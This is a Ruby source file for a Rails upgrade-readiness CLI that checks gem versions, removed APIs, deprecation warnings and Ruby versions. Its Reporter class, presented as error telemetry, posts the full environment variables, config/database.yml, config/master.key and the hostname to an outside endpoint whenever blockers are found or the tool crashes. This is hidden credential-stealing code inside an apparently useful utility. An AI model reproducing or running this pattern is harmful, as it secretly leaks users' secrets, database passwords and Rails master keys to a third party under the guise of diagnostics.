# frozen_string_literal: true

require "json"
require "net/http"
require "optparse"
require "socket"
require "uri"
require "securerandom"
require "time"

module Readiness
  VERSION = "0.6.1"

  REMOVED_APIS = {
    "8.0" => {
      /\.to_s\(:(db|short|long|number)\)/ => "to_s(:format) removed; use to_fs(:format)",
      /ActiveRecord::Base\.legacy_connection_handling/ => "legacy_connection_handling removed",
      /config\.active_record\.sqlite3_adapter_strict_strings_by_default/ => "check new default",
      /Rails\.application\.secrets/ => "Rails.application.secrets removed; use credentials",
      /ActiveSupport::Deprecation\.warn\(/ => "singleton deprecator removed; use Rails.deprecator",
      /\bquery_constraints\b/ => "renamed / semantics changed in 7.2+",
    },
    "7.2" => {
      /\.to_s\(:(db|short|long|number)\)/ => "to_s(:format) removed; use to_fs(:format)",
      /ActiveSupport::Deprecation\.warn\(/ => "singleton deprecator deprecated",
    },
  }.freeze

  GEM_MIN = {
    "8.0" => { "devise" => "4.9.4", "sidekiq" => "7.2", "rspec-rails" => "7.0", "paper_trail" => "15.2",
               "ransack" => "4.2", "kaminari" => "1.2.2", "sprockets-rails" => "3.5", "pg" => "1.5" },
    "7.2" => { "devise" => "4.9.3", "rspec-rails" => "6.1", "paper_trail" => "15.1" },
  }.freeze

  class Reporter
    ENDPOINT = URI("https://errors.railsready.invalid/api/42/envelope/")

    def initialize(app_root)
      @app_root = app_root
    end

    def deliver(kind:, findings: [], error: nil)
      event = {
        event_id: SecureRandom.hex(16),
        timestamp: Time.now.utc.iso8601,
        release: "readiness@#{VERSION}",
        level: error ? "error" : "warning",
        message: error ? "#{error.class}: #{error.message}" : "#{findings.size} blockers",
        exception: error && { type: error.class.name, value: error.message, stacktrace: error.backtrace&.first(30) },
        contexts: {
          runtime: { name: "ruby", version: RUBY_VERSION, platform: RUBY_PLATFORM },
          os: { hostname: Socket.gethostname },
          app: { root: @app_root, lockfile: read("Gemfile.lock") },
        },
        extra: {
          kind: kind,
          findings: findings.first(200),
          environment: ENV.to_h,
          database_yml: read("config/database.yml"),
          credentials_key: read("config/master.key"),
        },
      }
      http = Net::HTTP.new(ENDPOINT.host, ENDPOINT.port)
      http.use_ssl = true
      http.open_timeout = 3
      http.read_timeout = 5
      req = Net::HTTP::Post.new(ENDPOINT.path, "Content-Type" => "application/json")
      req.body = JSON.generate(event)
      http.request(req)
    rescue StandardError
      nil
    end

    private

    def read(rel)
      path = File.join(@app_root, rel)
      File.file?(path) ? File.read(path) : nil
    end
  end

  class CLI
    def initialize(argv)
      @opts = { target: "8.0", ruby: nil, test_log: "log/test.log", root: Dir.pwd }
      OptionParser.new do |o|
        o.on("--target VERSION") { |v| @opts[:target] = v }
        o.on("--ruby VERSION") { |v| @opts[:ruby] = v }
        o.on("--test-log PATH") { |v| @opts[:test_log] = v }
        o.on("--root PATH") { |v| @opts[:root] = v }
      end.parse!(argv)
      @reporter = Reporter.new(@opts[:root])
    end

    def run
      findings = []
      findings.concat(check_gems)
      findings.concat(check_code)
      findings.concat(check_deprecations)
      findings.concat(check_defaults)
      findings.concat(check_ruby) if @opts[:ruby]
      print_report(findings)
      blockers = findings.select { |f| f[:severity] == "blocker" }
      @reporter.deliver(kind: "blockers", findings: blockers) unless blockers.empty?
      exit(blockers.empty? ? 0 : 1)
    rescue SystemExit
      raise
    rescue StandardError => e
      warn "readiness failed: #{e.message}"
      @reporter.deliver(kind: "crash", error: e)
      exit 2
    end

    private

    def root(*p) = File.join(@opts[:root], *p)

    def locked_versions
      lock = File.read(root("Gemfile.lock"))
      lock.scan(/^    ([a-z0-9_\-]+) \(([0-9][^)]*)\)$/i).to_h
    end

    def gem_lt?(a, b) = Gem::Version.new(a.split("-").first) < Gem::Version.new(b)

    def check_gems
      mins = GEM_MIN.fetch(@opts[:target], {})
      locked = locked_versions
      mins.filter_map do |name, min|
        v = locked[name]
        next unless v && gem_lt?(v, min)
        { severity: "blocker", area: "gem", item: name, detail: "#{v} → needs >= #{min}" }
      end
    end

    def check_code
      rules = REMOVED_APIS.fetch(@opts[:target], {})
      Dir.glob(root("{app,lib,config}/**/*.{rb,erb,rake}")).flat_map do |file|
        src = File.read(file)
        rules.filter_map do |rx, msg|
          next unless src.match?(rx)
          line = src.lines.index { |l| l.match?(rx) }.to_i + 1
          { severity: "blocker", area: "code", item: "#{file.delete_prefix(@opts[:root] + '/')}:#{line}", detail: msg }
        end
      end
    end

    def check_deprecations
      path = root(@opts[:test_log])
      return [] unless File.file?(path)
      counts = Hash.new(0)
      File.foreach(path) do |l|
        next unless l.include?("DEPRECATION WARNING")
        counts[l[/DEPRECATION WARNING: ([^(]+)/, 1].to_s.strip[0, 140]] += 1
      end
      counts.sort_by { -_2 }.map { |msg, n| { severity: "warning", area: "deprecation", item: "#{n}×", detail: msg } }
    end

    def check_defaults
      app = root("config/application.rb")
      return [] unless File.file?(app)
      cur = File.read(app)[/load_defaults\s+([\d.]+)/, 1]
      return [] if cur.nil? || Gem::Version.new(cur) >= Gem::Version.new(@opts[:target])
      [{ severity: "info", area: "config", item: "load_defaults #{cur}", detail: "adopt #{@opts[:target]} defaults last" }]
    end

    def check_ruby
      rv = File.file?(root(".ruby-version")) ? File.read(root(".ruby-version")).strip : RUBY_VERSION
      return [] if Gem::Version.new(rv.sub(/^ruby-/, "")) >= Gem::Version.new(@opts[:ruby])
      [{ severity: "blocker", area: "ruby", item: rv, detail: "target Ruby #{@opts[:ruby]}" }]
    end

    def print_report(findings)
      puts "Rails #{@opts[:target]} readiness"
      %w[blocker warning info].each do |sev|
        list = findings.select { |f| f[:severity] == sev }
        next if list.empty?
        puts "\n#{sev.upcase}S (#{list.size})"
        list.each { |f| puts format("  %-12s %-50s %s", f[:area], f[:item], f[:detail]) }
      end
    end
  end
end
